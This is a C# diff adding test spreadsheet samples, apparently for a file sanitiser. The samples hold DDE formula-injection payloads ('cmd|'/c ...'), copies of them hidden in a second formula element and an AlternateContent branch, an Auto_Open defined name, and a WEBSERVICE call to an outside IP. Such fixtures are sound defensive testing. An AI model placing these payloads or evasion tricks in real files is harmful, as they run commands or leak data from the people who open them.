@@ -19,6 +19,12 @@ internal static class SheetSamples
         yield return ("xlsx/dirty.xlsx", Dirty().Bytes());
         yield return ("xlsx/broken.xlsx", Clean().Bytes()[..^60]);
         yield return ("xlsx/dde-formula.xlsx", WithCells("<c r=\"A1\" t=\"str\"><f>cmd|'/c SECRET-COMMAND'!A0</f><v>残る値</v></c>").Bytes());
+        yield return ("xlsx/second-formula.xlsx", WithCells("<c r=\"A1\"><f>SUM(1)</f><f>cmd|'/c SECRET-COMMAND'!A0</f><v>1</v></c>").Bytes());
+        yield return ("xlsx/formula-in-branch.xlsx", WithCells("<c r=\"A1\"><mc:AlternateContent xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\">"
+            + "<mc:Choice xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" Requires=\"x14\"><f>cmd|'/c SECRET-COMMAND'!A0</f></mc:Choice></mc:AlternateContent><v>1</v></c>").Bytes());
+        yield return ("xlsx/second-names.xlsx", new SamplePackage(Main, Workbook, WorkbookXml("<definedNames><definedName name=\"内部\">Sheet1!$A$1</definedName></definedNames>"
+            + "<definedNames><definedName name=\"_xlnm.Auto_Open\">Sheet1!$A$1</definedName></definedNames>"))
+            .Part("xl/worksheets/sheet1.xml", Type + "worksheet+xml", Sheet("", "")).Link(Main, "rId1", Rel + "worksheet", "xl/worksheets/sheet1.xml").Bytes());
         yield return ("xlsx/shared-formula.xlsx", WithCells("<c r=\"A1\"><f t=\"shared\" ref=\"A1:B1\" si=\"0\">WEBSERVICE(\"http://192.0.2.1/SECRET\")</f><v>1</v></c><c r=\"B1\"><f t=\"shared\" si=\"0\"/><v>2</v></c>").Bytes());
         yield return ("xlsx/add-in.xlam", new SamplePackage(Main, "application/vnd.ms-excel.addin.macroEnabled.main+xml", WorkbookXml()).Bytes());
         yield return ("xlsx/binary.xlsb", new SamplePackage("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.macroEnabled.main", "x").Bytes());
